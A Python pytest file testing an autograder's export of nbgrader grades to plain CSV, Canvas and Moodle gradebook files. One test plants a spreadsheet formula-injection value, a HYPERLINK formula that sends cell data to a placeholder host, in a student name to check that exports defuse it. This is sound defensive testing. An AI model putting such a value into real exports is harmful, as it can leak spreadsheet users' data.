"""Grades leave as tables that nbgrader's users, Canvas and Moodle read, and that no spreadsheet runs."""

import csv
import os
import shutil
import sys
import warnings
from datetime import datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from autograder import records
from autograder.command import main
from autograder.export import defused, export
from autograder.judge import Verdict
from autograder.layout import Course, CourseError
from autograder.records import Record

LINEAR, AUTODIFF = "02_linear_models", "03_autodiff"


@pytest.fixture(scope="module")
def blank(tmp_path_factory):
    """A gradebook of nbgrader's with nothing in it; making one takes seconds."""
    path = tmp_path_factory.mktemp("blank") / "gradebook.db"
    with pytest.MonkeyPatch.context() as patch, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        from nbgrader.api import Gradebook

        # nbgrader starts alembic by name
        patch.setenv("PATH", f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}")
        Gradebook(f"sqlite:///{path}").close()
    return path


@pytest.fixture
def course(tmp_path, blank):
    """A course without grades."""
    root = tmp_path / "course"
    for lecture in (LINEAR, AUTODIFF):
        (root / "source" / lecture).mkdir(parents=True)
        (root / "source" / lecture / f"{lecture}.py").touch()
    (root / "nbgrader_config.py").write_text("c = get_config()\n")
    shutil.copy(blank, root / "gradebook.db")
    return Course(root)


def enter(course, grades, names=(), lecture=LINEAR):
    """Enter grades in a real gradebook: student -> (points of code, points for a written answer or None while it waits)."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        from nbgrader.api import Gradebook

        with Gradebook(course.gradebook_url) as book:
            book.update_or_create_assignment(lecture)
            book.update_or_create_notebook(lecture, lecture)
            for name, most, kind in (("check_a", 20, "code"), ("word", 3, "markdown")):
                book.update_or_create_grade_cell(name, lecture, lecture, max_score=most, cell_type=kind)
                book.update_or_create_source_cell(name, lecture, lecture, cell_type=kind)
            for student, (code, word) in grades.items():
                book.update_or_create_student(student, **dict(names).get(student, {}))
                submission = book.update_or_create_submission(lecture, student)
                submission.timestamp = datetime(2026, 3, 1, 12)
                for name, score in (("check_a", code), ("word", word)):
                    grade = book.find_grade(name, lecture, lecture, student)
                    grade.auto_score = score if name == "check_a" else None
                    grade.manual_score = score if name == "word" else None
                    grade.needs_manual_grade = score is None
            book.db.commit()


def lines(path):
    with open(path, newline="", encoding="utf-8") as file:
        return list(csv.reader(file))


PEOPLE = {
    "ada": {"first_name": "Ada", "last_name": "Lovelace", "email": "ada@x.example"},
    "alan": {"first_name": "Alan", "last_name": "Turing", "lms_user_id": "12346"},
}


def test_the_csv_is_nbgraders_own_to_the_byte(course, tmp_path):
    enter(course, {"ada": (17.5, 2), "alan": (3, 0)}, PEOPLE)
    enter(course, {"ada": (1, 3)}, PEOPLE, AUTODIFF)
    export(course, tmp_path / "ours.csv")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        from nbgrader.api import Gradebook
        from nbgrader.plugins import CsvExportPlugin

        with Gradebook(course.gradebook_url) as book:
            CsvExportPlugin(to=str(tmp_path / "theirs.csv")).export(book)
    assert (tmp_path / "ours.csv").read_bytes() == (tmp_path / "theirs.csv").read_bytes()


def test_a_name_with_a_comma_stays_one_cell(course, tmp_path):
    enter(course, {"sam": (1, 1)}, {"sam": {"last_name": 'Davis, "Jr."', "first_name": "Sam"}})
    export(course, tmp_path / "g.csv")
    header, row = lines(tmp_path / "g.csv")
    assert dict(zip(header, row, strict=True))["last_name"] == 'Davis, "Jr."'


def test_one_lecture_alone_is_exported_by_name(course, tmp_path):
    enter(course, {"ada": (1, 1)})
    enter(course, {"ada": (2, 1)}, lecture=AUTODIFF)
    export(course, tmp_path / "g.csv", lecture=course.lecture("3"))
    assert [row[0] for row in lines(tmp_path / "g.csv")[1:]] == [AUTODIFF]


def test_written_answers_that_wait_are_named(course, tmp_path):
    enter(course, {"ada": (17.5, None), "alan": (3, 0)})
    (note,) = export(course, tmp_path / "g.csv")
    assert note == "02_linear_models: written answers of ada are not graded yet; they count 0 points here."


def test_submissions_that_could_not_be_judged_are_named(course, tmp_path):
    enter(course, {"ada": (0, 0), "alan": (0, 0)})
    verdict = Verdict("cost", 2.0, 0.0, "missing")
    for student, problem in (("ada", "ada: 02_linear_models.ipynb is damaged."), ("alan", "")):
        records.write(course, course.lecture("2"), Record(student, LINEAR, 1, "", {}, (verdict,), problem))
    (note,) = export(course, tmp_path / "g.csv")
    assert note == "02_linear_models: ada could not be judged and stand with 0 points here."


# ---------------------------------------------------------------------------------------------------------------- Canvas

CANVAS = """\
Student,ID,SIS User ID,SIS Login ID,Section,Autodiff (4710),Linear models (4711),Assignments Current Score
,,,,,,Manual Posting,
    Points Possible,,,,,10,23,(read only)
"Lovelace, Ada",12345,s1,ada,A,,1,
"Turing, Alan",12346,s2,Alan,A,,2,
"Hopper, Grace",12347,s3,grace,B,9,22.5,
"Student, Test",999,,testuser,A,,,
"""


def test_a_grade_book_of_canvas_is_filled_in_by_its_own_numbers(course, tmp_path):
    (tmp_path / "canvas.csv").write_text(CANVAS)
    enter(course, {"ada": (17.5, 2), "alan": (3, 1 / 3), "eve": (1, 1)}, PEOPLE)
    notes = export(course, tmp_path / "g.csv", "canvas", roster=tmp_path / "canvas.csv")
    assert lines(tmp_path / "g.csv") == [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Linear models (4711)"],
        ["    Points Possible", "", "", "", "", "23"],
        ["Lovelace, Ada", "12345", "s1", "ada", "A", "19.5"],
        ["Turing, Alan", "12346", "s2", "Alan", "A", "3.33"],
        ["Hopper, Grace", "12347", "s3", "grace", "B", "22.5"],  # no submission here: what Canvas has stays
        ["Student, Test", "999", "", "testuser", "A", ""],
    ]
    assert notes == ["Not on the roster, and so not in the file: eve."]


def test_canvas_takes_a_file_without_a_roster_by_login_and_by_number_where_we_know_it(course, tmp_path):
    enter(course, {"ada": (17.5, 2), "alan": (3, 0)}, PEOPLE)
    enter(course, {"ada": (1, 3)}, PEOPLE, AUTODIFF)
    (note,) = export(course, tmp_path / "g.csv", "canvas")
    assert lines(tmp_path / "g.csv") == [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", LINEAR, AUTODIFF],
        ["    Points Possible", "", "", "", "", "23", "23"],
        ["Lovelace, Ada", "", "", "ada", "", "19.5", "4"],
        ["Turing, Alan", "12346", "", "alan", "", "3", ""],
    ]
    assert "with its own grade book as --roster it finds both by number" in note


@pytest.mark.parametrize(
    ("title", "found"),
    [
        ("02_linear_models (4711)", True),
        ("Lecture 2: Linear Models (4711)", True),
        ("linear-models", True),
        ("Linear models, quiz (4711)", False),
        ("Autodiff (4711)", False),
    ],
)
def test_the_assignment_of_a_lecture_is_found_by_its_name_or_not_at_all(course, tmp_path, title, found):
    (tmp_path / "canvas.csv").write_text(f'Student,ID,SIS Login ID,Section,"{title}"\n"L, A",1,ada,A,\n')
    enter(course, {"ada": (1, 1)})
    notes = export(course, tmp_path / "g.csv", "canvas", roster=tmp_path / "canvas.csv")
    assert lines(tmp_path / "g.csv")[0][-1] == (title if found else LINEAR)
    assert bool(notes) is not found


def test_other_points_in_canvas_are_said(course, tmp_path):
    (tmp_path / "canvas.csv").write_text(CANVAS.replace("10,23", "10,100"))
    enter(course, {"ada": (1, 1)})
    (note,) = export(course, tmp_path / "g.csv", "canvas", roster=tmp_path / "canvas.csv")
    assert "has 100 points in Canvas and 23 here" in note


def test_canvas_recognises_its_file(course, tmp_path):
    """As lib/gradebook_importer.rb of Canvas reads it: what stands in the first columns, and how a row of points begins."""
    enter(course, {"ada": (1, 1)})
    export(course, tmp_path / "g.csv", "canvas")
    header, points, student = lines(tmp_path / "g.csv")
    assert "Student" in header[0]
    assert "ID" in header[1]
    assert header[2:4] == ["SIS User ID", "SIS Login ID"]
    assert "Section" in header[4]
    assert "Points Possible" in points[0]
    assert float(points[5]) == 23
    assert not (tmp_path / "g.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    assert student[3] == "ada"


# ---------------------------------------------------------------------------------------------------------------- Moodle

WORKSHEET = """\
\ufeffIdentifier,"Full name","Email address",Status,Grade,"Maximum grade","Grade can be changed",\
"Last modified (submission)","Last modified (grade)","Feedback comments"
"Participant 77","Ada Lovelace",ada,"Submitted for grading - ",,23.00,Yes,"Sunday, 1 March 2026, 2:14 PM",-,"Fine,
and on two lines"
"Participant 78","Alan Turing",alan,"Submitted for grading - ",5,23.00,No,-,-,
"Participant 79","Grace Hopper",grace,"No submission - ",22.5,23.00,Yes,-,-,
"""


def test_a_worksheet_of_moodle_comes_back_with_the_grades_filled_in(course, tmp_path):
    (tmp_path / "w.csv").write_text(WORKSHEET, encoding="utf-8")
    enter(course, {"ada": (17.5, 2), "alan": (3, 1)}, PEOPLE)
    notes = export(course, tmp_path / "g.csv", "moodle", roster=tmp_path / "w.csv")
    before, after = lines(tmp_path / "w.csv"), lines(tmp_path / "g.csv")
    before[0][0] = "Identifier"
    assert [row[4] for row in after] == ["Grade", "19.5", "4", "22.5"]
    assert [row[:4] + row[5:] for row in after] == [row[:4] + row[5:] for row in before]
    assert notes == ["Moodle says that these grades can't be changed: alan."]


def test_moodle_reads_the_three_columns_that_it_looks_for(course, tmp_path):
    """As mod/assign/feedback/offline/importgradeslib.php of Moodle does."""
    enter(course, {"ada": (1, 1)}, PEOPLE)
    (note,) = export(course, tmp_path / "g.csv", "moodle")
    header, row = lines(tmp_path / "g.csv")
    assert {"Identifier", "Grade", "Last modified (grade)", "Email address"} <= set(header)
    assert dict(zip(header, row, strict=True))["Grade"] == "2"
    assert "map Email address and Grade" in note


def test_a_worksheet_with_another_maximum_and_grades_of_nought_are_said(course, tmp_path):
    (tmp_path / "w.csv").write_text(WORKSHEET.replace("23.00", "10.00"), encoding="utf-8")
    enter(course, {"ada": (0, 0), "alan": (3, 1)})
    notes = " ".join(export(course, tmp_path / "g.csv", "moodle", roster=tmp_path / "w.csv"))
    assert "has 10.00 points in Moodle and 23 here" in notes
    assert "passes over grades of 0: set those of ada in Moodle" in notes


def test_a_worksheet_is_of_one_lecture(course, tmp_path):
    enter(course, {"ada": (1, 1)})
    enter(course, {"ada": (1, 1)}, lecture=AUTODIFF)
    with pytest.raises(CourseError, match=r"name one of .* with --lecture"):
        export(course, tmp_path / "g.csv", "moodle")
    export(course, tmp_path / "g.csv", "moodle", course.lecture(LINEAR))


def test_a_list_of_ones_own_gives_moodle_and_canvas_their_numbers(course, tmp_path):
    (tmp_path / "r.csv").write_text("id,name,email,canvas,moodle\nADA,Ada Lovelace,ada@x.example,12345,77\n")
    enter(course, {"ada": (1, 1)})
    export(course, tmp_path / "m.csv", "moodle", roster=tmp_path / "r.csv")
    export(course, tmp_path / "c.csv", "canvas", roster=tmp_path / "r.csv")
    assert lines(tmp_path / "m.csv")[1][:5] == ["Participant 77", "Ada Lovelace", "ada@x.example", "", "2"]
    assert lines(tmp_path / "c.csv")[2] == ["Ada Lovelace", "12345", "", "ADA", "", "2"]


# ------------------------------------------------------------------------------------------------------------- formulas


@pytest.mark.parametrize("form", ["csv", "canvas", "moodle"])
def test_a_name_that_a_spreadsheet_would_run_is_defused_and_said(course, tmp_path, form):
    evil = '=HYPERLINK("http://x.example/?"&A1,"ok")'
    enter(course, {"eve": (1, 1)}, {"eve": {"last_name": evil, "email": "@SUM(A1)"}})
    notes = export(course, tmp_path / "g.csv", form)
    cells = [cell for row in lines(tmp_path / "g.csv") for cell in row]
    assert f"'{evil}" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@") or (cell[:1] == "-" and cell != "-")]
    assert evil in notes[-1]


@given(st.text(st.characters(codec="utf-8", exclude_characters="\0"), max_size=20))
def test_no_cell_begins_like_a_formula_and_no_other_cell_is_changed(text):
    safe = defused(text)
    assert safe in (text, f"'{text}")
    if safe[:1] in tuple("=+-@\t\r\n"):
        assert safe == "-" or float(safe) is not None
    if text[:1].isalnum():
        assert safe == text


# ----------------------------------------------------------------------------------------------------------- what is not there


def test_without_a_gradebook_the_way_to_one_is_said(course, tmp_path):
    (course.root / "gradebook.db").unlink()
    with pytest.raises(CourseError, match=r"no gradebook\.db yet; run `autograder grade LECTURE`"):
        export(course, tmp_path / "g.csv")


def test_without_grades_of_a_lecture_nothing_is_written(course, tmp_path):
    enter(course, {"ada": (1, 1)})
    with pytest.raises(CourseError, match="holds no grades of 03_autodiff"):
        export(course, tmp_path / "g.csv", lecture=course.lecture(AUTODIFF))
    assert not (tmp_path / "g.csv").exists()


def test_a_gradebook_that_is_none_is_said(course, tmp_path):
    (course.root / "gradebook.db").write_text("no data base, but long enough to be looked at as one " * 50)
    with pytest.raises(CourseError, match="The gradebook can't be read"):
        export(course, tmp_path / "g.csv")


def test_a_place_that_can_not_be_written_is_said(course, tmp_path):
    enter(course, {"ada": (1, 1)})
    (tmp_path / "file").touch()
    with pytest.raises(CourseError, match="Could not write"):
        export(course, tmp_path / "file" / "g.csv")


def test_the_command_exports_each_format(course, monkeypatch, capsys):
    enter(course, {"ada": (1, 1)}, PEOPLE)
    monkeypatch.chdir(course.root)
    for form, name in (("csv", "grades.csv"), ("canvas", "grades-canvas.csv"), ("moodle", "grades-moodle.csv")):
        assert main(["export", "--format", form, "--lecture", "2"]) == 0
        assert f"Grades: {name}" in capsys.readouterr().out
        assert (course.root / name).is_file()
